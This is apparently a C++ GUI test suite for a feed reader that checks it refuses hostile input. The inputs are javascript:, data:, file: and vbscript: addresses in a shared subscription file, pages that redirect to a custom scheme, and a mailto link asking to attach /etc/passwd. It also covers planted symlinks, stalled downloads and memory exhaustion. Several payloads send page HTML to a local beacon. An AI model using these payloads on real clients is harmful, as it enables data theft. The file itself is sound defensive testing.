// Attacks through the window: a shared subscription file whose addresses try to run script or
// show local files, pages that try to leave the web, servers that trickle, and running out of
// memory in the middle of an action.

#include <wx/evtloop.h>
#include <wx/statusbr.h>
#include <wx/uiaction.h>
#include <wx/webview.h>

#include <chrono>
#include <filesystem>
#include <new>
#include <utility>

#include "app_fixture.h"
#include "dialog_test_util.h"
#include "encoding/codepage.h"
#include "fetch/http_download.h"
#include "gui/controls/list_ctrl_box.h"
#include "gui/document/feed_marks.h"
#include "gui/platform/gui_hooks.h"
#include "gui/views/article_view.h"
#include "gui/views/browser_view.h"
#include "gui/views/varlo_view.h"
#include "platform/message_pump.h"
#include "screenshot.h"
#include "shell/command_ids.h"
#include "support/loopback_server.h"

namespace varlo::test {
namespace {

const char* const kFeed =
    "<?xml version=\"1.0\" encoding=\"utf-8\"?><rss version=\"2.0\"><channel><title>t</title>"
    "<item><title>one</title></item></channel></rss>";

// What the browser pane says of an address it refuses.
std::string Refusal(const std::string& address) {
    return address + " は http または https のアドレスではありません";
}

std::string Base64(const std::string& bytes) {
    static const char kDigits[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    for (size_t i = 0; i < bytes.size(); i += 3) {
        uint32_t group = static_cast<uint8_t>(bytes[i]) << 16;
        if (i + 1 < bytes.size()) group |= static_cast<uint8_t>(bytes[i + 1]) << 8;
        if (i + 2 < bytes.size()) group |= static_cast<uint8_t>(bytes[i + 2]);
        out += kDigits[(group >> 18) & 63];
        out += kDigits[(group >> 12) & 63];
        out += i + 1 < bytes.size() ? kDigits[(group >> 6) & 63] : '=';
        out += i + 2 < bytes.size() ? kDigits[group & 63] : '=';
    }
    return out;
}

class HostileInput : public AppTest {
  protected:
    void SetUp() override {
        AppTest::SetUp();
        beacon.Route("/page.html", Ok("<html><head><title>page</title></head><body>p</body></html>",
                                      "text/html"));
        beacon.Route("/feed.xml", Ok(kFeed));
    }
    void TearDown() override {
        CHttpDownload::SetLimits(DownloadLimits{});
        AppTest::TearDown();
    }
    // A subscription file of sites given by (web address, feed address).
    std::string Subscriptions(const std::vector<std::pair<std::string, std::string>>& sites) {
        std::string xml =
            "<?xml version=\"1.0\" encoding=\"utf-8\" ?><opml version=\"1.0\"><head>"
            "<title>t</title></head><body>";
        int n = 0;
        for (const auto& [html, feed] : sites) {
            // Written as a careless tool would: raw, never escaped.
            xml += "<outline title=\"s" + std::to_string(n++) + "\" htmlUrl=\"" + html + "\"";
            if (!feed.empty()) xml += " xmlUrl=\"" + feed + "\"";
            xml += "/>";
        }
        xml += "</body></opml>";
        const std::string path = dir.File("shared.opml");
        WriteFile(path, xml);
        return path;
    }
    CVarloView& Sites() { return *Frame().SiteList(); }
    CListCtrlBox& SiteRows() { return *Sites().GetList(); }
    wxWebView* Web() { return Frame().Browser()->GetWebView(); }
    // The pane's address: the page it shows.
    std::string Url() { return Cp932ToUtf8(Frame().Browser()->GetLocationURL()); }
    // Requests that reached the beacon other than for the given targets.
    std::vector<std::string> StrayRequests(std::initializer_list<std::string> expected) {
        std::vector<std::string> stray;
        for (const auto& request : beacon.Requests()) {
            if (std::find(expected.begin(), expected.end(), request.target) == expected.end()) {
                stray.push_back(request.target);
            }
        }
        return stray;
    }
    // Waits as the shared helper does, then lets the window finish what the change started.
    bool WaitUntil(const std::function<bool()>& done) {
        if (!test::WaitUntil(done)) return false;
        PumpEvents();
        return true;
    }
    // Waits until the engine has finished loading a page whose address ends with `suffix` and the
    // pane shows it.
    bool WaitForPage(const std::string& suffix) {
        const bool shown = WaitUntil(
            [&] { return loads.Finished(suffix) && !Web()->IsBusy() && Url().ends_with(suffix); });
        loads.Forget();
        return shown;
    }
    void Click(int row) {
        loads.Watch(Web());
        SiteRows().SelectItem(SiteRow(row));
        PumpEvents();
    }

    LoopbackServer beacon;
    test::PageLoads loads;
};

TEST_F(HostileInput, AddressesOfASharedSubscriptionFileLoadNothingButWebPages) {
    const std::string secret = dir.File("secret.html");
    WriteFile(secret, "<html><body><script>new Image().src='" + beacon.Url("/file") +
                          "'</script>secret</body></html>");
    const std::string steal = "new Image().src='" + beacon.Url("/js?") +
                              "'+encodeURIComponent(document.documentElement.outerHTML)";
    const std::vector<std::string> hostile = {
        "data:text/html;base64," +
            Base64("<script>new Image().src='" + beacon.Url("/data") + "'</script>"),
        "data:text/html,<body onload=location='" + beacon.Url("/onload") + "'",
        "file://" + secret,
        secret,
        "javascript:" + steal,
        "  JavaScript:" + steal,
        "java\tscript:" + steal,
        "vbscript:msgbox(1)",
    };
    std::vector<std::pair<std::string, std::string>> sites = {{beacon.Url("/page.html"), ""}};
    for (const auto& address : hostile) sites.push_back({address, ""});
    sites.push_back({"mailto:someone@example.com", ""});
    ASSERT_TRUE(Start({Subscriptions(sites)}));

    Click(0);
    ASSERT_TRUE(WaitForPage("/page.html"));
    RecordingLauncher launcher;
    for (size_t i = 0; i < hostile.size(); ++i) {
        SCOPED_TRACE(hostile[i]);
        MessageCapture messages;
        Click(static_cast<int>(i + 1));
        ASSERT_EQ(messages.Messages().size(), 1u);
        // The message names the address as the file holds it (tabs in it as the file gives them).
        EXPECT_EQ(messages.Messages()[0], Refusal(hostile[i]));
        EXPECT_EQ(Url(), beacon.Url("/page.html"));
    }
    // The page shown before is still there, untouched.
    SaveScreenshot(&Frame(), "refused_addresses");
    {
        MessageCapture messages;
        Click(static_cast<int>(sites.size() - 1));
        EXPECT_TRUE(messages.Messages().empty());
        EXPECT_EQ(launcher.opened, std::vector<std::string>{"mailto:someone@example.com"});
    }
    // Let anything that might have started finish before looking at the beacon.
    Frame().RunCommand(cmd::kRefresh);
    ASSERT_TRUE(WaitForPage("/page.html"));
    EXPECT_EQ(Url(), beacon.Url("/page.html"));
    EXPECT_EQ(StrayRequests({"/page.html"}), std::vector<std::string>{});
}

TEST_F(HostileInput, APageCannotTakeThePaneAwayFromTheWeb) {
    // Each page sends the pane somewhere else as soon as it is shown.
    auto page = [](const std::string& target) {
        return Ok("<html><head><title>go</title></head><body><a id=a href=\"" + target +
                      "\">x</a><script>document.getElementById('a').click()</script></body></html>",
                  "text/html");
    };
    beacon.Route("/to-custom.html", page("varlo-evil:" + beacon.Url("/custom")));
    beacon.Route("/to-web.html", page(beacon.Url("/page.html")));
    beacon.Route("/redirect.html", Redirect(302, "varlo-evil:" + dir.File("secret.html")));
    ASSERT_TRUE(Start({Subscriptions({{beacon.Url("/to-custom.html"), ""},
                                      {beacon.Url("/to-web.html"), ""},
                                      {beacon.Url("/redirect.html"), ""}})}));
    MessageCapture messages;
    Click(0);
    ASSERT_TRUE(WaitUntil([&] { return !messages.Messages().empty(); }));
    EXPECT_EQ(messages.Messages(),
              std::vector<std::string>{Refusal("varlo-evil:" + beacon.Url("/custom"))});
    EXPECT_EQ(Url(), beacon.Url("/to-custom.html"));

    // Links between web pages go on as before.
    Click(1);
    ASSERT_TRUE(WaitForPage("/page.html"));
    // A server's redirection is a navigation like any other: refused, and the pane keeps the page
    // it showed, while the refused load ends as well.
    Click(2);
    ASSERT_TRUE(WaitUntil([&] { return messages.Messages().size() == 2; }));
    EXPECT_EQ(messages.Messages()[1], Refusal("varlo-evil:" + dir.File("secret.html")));
    EXPECT_EQ(Url(), beacon.Url("/page.html"));
    ASSERT_TRUE(WaitUntil([&] {
        return std::string(Web()->GetCurrentURL().utf8_str()) == beacon.Url("/page.html");
    }));
    EXPECT_EQ(Url(), beacon.Url("/page.html"));
    EXPECT_EQ(StrayRequests({"/to-custom.html", "/to-web.html", "/page.html", "/redirect.html"}),
              std::vector<std::string>{});
}

TEST_F(HostileInput, OnlyAClickOfTheUserHandsAMailAddressOnAndOnlyItsAddressSubjectAndBody) {
    // The whole page is one mail link, which the page's script clicks at once and which asks
    // for more than an address, a subject and a body. Then the page tries to leave the web, so
    // that the refusal tells when the pane has answered both.
    beacon.Route(
        "/mail.html",
        Ok("<html><head><title>mail</title></head><body style=\"margin:0\"><a id=a "
           "href=\"mailto:someone@example.com?subject=Hi&amp;attach=/etc/passwd&amp;body=Text&amp;"
           "cc=spy@example.com\" style=\"display:block;position:fixed;left:0;top:0;width:100%;"
           "height:100%\">mail</a><script>document.getElementById('a').click();"
           "location = 'varlo-evil:after';"
           "document.addEventListener('mousemove', () => { document.title = 'pointer' })"
           "</script></body></html>",
           "text/html"));
    ASSERT_TRUE(Start({Subscriptions({{beacon.Url("/mail.html"), ""}})}));
    RecordingLauncher launcher;
    MessageCapture messages;
    Click(0);
    ASSERT_TRUE(WaitUntil([&] { return !messages.Messages().empty(); }));
    EXPECT_EQ(messages.Messages(), std::vector<std::string>{Refusal("varlo-evil:after")});
    EXPECT_EQ(launcher.opened, std::vector<std::string>{});
    ASSERT_TRUE(WaitForPage("/mail.html"));

    // A real click of the mouse on the page, once the page has seen the pointer move over it (the
    // window is then on the screen and the page laid out).
    Frame().Show();
    Frame().Raise();
    wxUIActionSimulator mouse;
    int step = 0;
    ASSERT_TRUE(WaitUntil([&] {
        if (Web()->GetCurrentTitle() == "pointer") return true;
        const wxRect pane = Web()->GetScreenRect();
        mouse.MouseMove(pane.GetLeft() + pane.GetWidth() / 2 + (++step % 2),
                        pane.GetTop() + pane.GetHeight() / 2);
        return false;
    }));
    mouse.MouseClick();
    ASSERT_TRUE(WaitUntil([&] { return !launcher.opened.empty(); }));
    EXPECT_EQ(launcher.opened,
              std::vector<std::string>{"mailto:someone@example.com?subject=Hi&body=Text"});
    SaveScreenshot(&Frame(), "mail_link_clicked");
    Frame().Hide();
    EXPECT_EQ(Url(), beacon.Url("/mail.html"));
}

TEST_F(HostileInput, APageThatKeepsTryingGetsOneMessage) {
    // Every few milliseconds the page tells the beacon, then tries to leave the web.
    beacon.Route("/loop.html", Ok("<html><head><title>loop</title></head><body><script>let n = 0;"
                                  "setInterval(() => { new Image().src = '/tick?' + n++;"
                                  "location = 'varlo-evil:again'; }, 5)</script></body></html>",
                                  "text/html"));
    ASSERT_TRUE(Start({Subscriptions({{beacon.Url("/loop.html"), ""}})}));
    MessageCapture messages;
    Click(0);
    auto ticks = [this] {
        size_t n = 0;
        for (const auto& request : beacon.Requests()) n += request.target.starts_with("/tick?");
        return n;
    };
    ASSERT_TRUE(WaitUntil([&] { return ticks() >= 20 && !messages.Messages().empty(); }));
    EXPECT_EQ(messages.Messages(), std::vector<std::string>{Refusal("varlo-evil:again")});
    EXPECT_EQ(Url(), beacon.Url("/loop.html"));
}

TEST_F(HostileInput, LinksPlantedInTheProgramFolderAreReplacedNeverFollowed) {
    TempDir elsewhere;
    for (const char* name : {"down.xml", "MorvaPreview.html"}) {
        WriteFile(elsewhere.File(name), "precious");
        std::filesystem::create_symlink(elsewhere.File(name), dir.File(name));
    }
    ASSERT_TRUE(Start({Subscriptions({{"", beacon.Url("/feed.xml")}})}));
    Click(0);
    EXPECT_EQ(Frame().ArticleList()->GetList()->GetItemCount(), 1);
    for (const char* name : {"down.xml", "MorvaPreview.html"}) {
        EXPECT_EQ(ReadFile(elsewhere.File(name)), "precious") << name;
        EXPECT_FALSE(std::filesystem::is_symlink(dir.File(name))) << name;
    }
    EXPECT_EQ(ReadFile(dir.File("down.xml")), kFeed);
}

TEST_F(HostileInput, ATricklingFeedFailsWithinTheLimits) {
    DownloadLimits limits;
    limits.minSpeedTime = std::chrono::milliseconds(300);
    CHttpDownload::SetLimits(limits);
    Response trickle = Ok(std::string(5000, 'x'));
    trickle.trickle = std::chrono::milliseconds(25);
    beacon.Route("/trickle.xml", trickle);
    ASSERT_TRUE(Start({Subscriptions({{"", beacon.Url("/trickle.xml")}})}));
    MessageCapture messages;
    Click(0);
    EXPECT_EQ(messages.Messages(),
              std::vector<std::string>{"ダウンロードに失敗しました: 操作がタイムアウトしました"});
    EXPECT_FALSE(std::filesystem::exists(dir.File("down.xml")));
}

// The feed download of the site list: the server sends part of the feed and then nothing.
class CancelFeed : public HostileInput {
  protected:
    void SetUp() override {
        HostileInput::SetUp();
        Response stalled = Ok(std::string(10000, 'x'));
        stalled.stallAfter = 3000;
        beacon.Route("/stalled.xml", stalled);
    }
    // Chooses the stalled site (row 1) after the good one (row 0), and runs `meanwhile` while
    // its download runs (the window's event loop goes on meanwhile).
    void ChooseTheStalledSite(const std::function<void()>& meanwhile) {
        ASSERT_TRUE(Start(
            {Subscriptions({{"", beacon.Url("/feed.xml")}, {"", beacon.Url("/stalled.xml")}})}));
        Click(0);
        ASSERT_EQ(Frame().ArticleList()->GetList()->GetItemCount(), 1);
        previous = ReadFile(dir.File("down.xml"));
        SiteRows().SelectItem(SiteRow(1));
        ASSERT_TRUE(Frame().SiteList()->IsDownloading());
        meanwhile();
        PumpEvents();
    }
    size_t Served(const std::string& target) const {
        size_t count = 0;
        for (const Request& request : beacon.Requests()) count += request.target == target;
        return count;
    }
    // A cancel is no failure: the panes and the last download stay, the store records nothing
    // and the status bar says what happened.
    void ExpectNothingChanged() {
        EXPECT_EQ(ReadFile(dir.File("down.xml")), previous);
        EXPECT_EQ(Frame().ArticleList()->GetList()->GetItemCount(), 1);
        EXPECT_FALSE(CHttpDownload::IsRunning());
        EXPECT_EQ(Frame().GetStatusBar()->GetStatusText(0), wxString::FromUTF8("中止しました"));
        EXPECT_EQ(Frame().SiteList()->DownPath(), dir.File("down.xml"));
        EXPECT_TRUE(FeedMarks().Store().Feed(beacon.Url("/stalled.xml")).failureMessage.empty());
    }
    std::string previous;
};

TEST_F(CancelFeed, EscapeInTheMainWindowCancelsIt) {
    MessageCapture messages;
    ChooseTheStalledSite([this] {
        wxKeyEvent* escape = new wxKeyEvent(wxEVT_CHAR_HOOK);
        escape->m_keyCode = WXK_ESCAPE;
        Frame().GetEventHandler()->QueueEvent(escape);
    });
    EXPECT_TRUE(messages.Messages().empty());
    ExpectNothingChanged();
}

TEST_F(CancelFeed, TheStopCommandCancelsIt) {
    MessageCapture messages;
    ChooseTheStalledSite([this] {
        EXPECT_TRUE(Frame().CurrentState().downloading);
        Frame().RunCommand(cmd::kStop);
    });
    EXPECT_TRUE(messages.Messages().empty());
    ExpectNothingChanged();
}

TEST_F(CancelFeed, AnotherSiteChosenMeanwhileIsFetchedOnceTheDownloadEnds) {
    MessageCapture messages;
    ChooseTheStalledSite([this] {
        SiteRows().SelectItem(SiteRow(0));
        wxTheApp->ProcessPendingEvents();
        EXPECT_TRUE(Frame().SiteList()->IsDownloading()) << "the first download goes on";
        Frame().RunCommand(cmd::kStop);
    });
    EXPECT_TRUE(messages.Messages().empty());
    EXPECT_EQ(Served("/feed.xml"), 2u);
    EXPECT_EQ(Frame().ArticleList()->GetList()->GetItemCount(), 1);
    EXPECT_FALSE(Frame().SiteList()->IsDownloading());
}

TEST_F(CancelFeed, AfterASecondItsProgressWindowShowsAndItsButtonCancels) {
    MessageCapture messages(kIdOk);
    bool pressed = false;
    ChooseTheStalledSite([&] {
        wxWindow* progress = nullptr;
        // The shared helper: this fixture's own would wait for the download to end.
        ASSERT_TRUE(test::WaitUntil([&] {
            progress = nullptr;
            for (wxWindow* window : wxTopLevelWindows) {
                if (window->GetLabel() == wxString::FromUTF8("ダウンロード") && window->IsShown()) {
                    progress = window;
                }
            }
            return progress != nullptr;
        }));
        pressed = true;
        SaveScreenshot(progress, "feed_progress_window");
        Press(static_cast<wxButton*>(progress->FindWindow(1003)));
    });
    EXPECT_TRUE(pressed);
    EXPECT_EQ(messages.Messages(), std::vector<std::string>{"中止しますか？"});
    ExpectNothingChanged();
}

TEST_F(HostileInput, RunningOutOfMemoryInTheWindowIsAMessageNotAnAbort) {
    ASSERT_TRUE(Start({Subscriptions({{"", beacon.Url("/feed.xml")}})}));
    MessageCapture messages;
    // A handler of a window event, and a call made later, each run out of memory.
    const int kFailingCommand = wxNewId();
    Frame().Bind(
        wxEVT_MENU, [](wxCommandEvent&) { throw std::bad_alloc(); }, kFailingCommand);
    wxCommandEvent command(wxEVT_MENU, kFailingCommand);
    Frame().HandleWindowEvent(command);
    Frame().CallAfter([] { throw std::bad_alloc(); });
    PumpEvents();
    // A size no allocation could give is the same shortage.
    Frame().CallAfter([] { std::string().reserve(std::string().max_size() + 1); });
    PumpEvents();
    // And one while a download runs.
    Frame().CallAfter([] { throw std::bad_alloc(); });
    Click(0);
    EXPECT_EQ(messages.Messages(), std::vector<std::string>(4, "メモリが不足しています"));
    // The window goes on: the feed was read all the same.
    EXPECT_EQ(Frame().ArticleList()->GetList()->GetItemCount(), 1);
}

}  // namespace
}  // namespace varlo::test
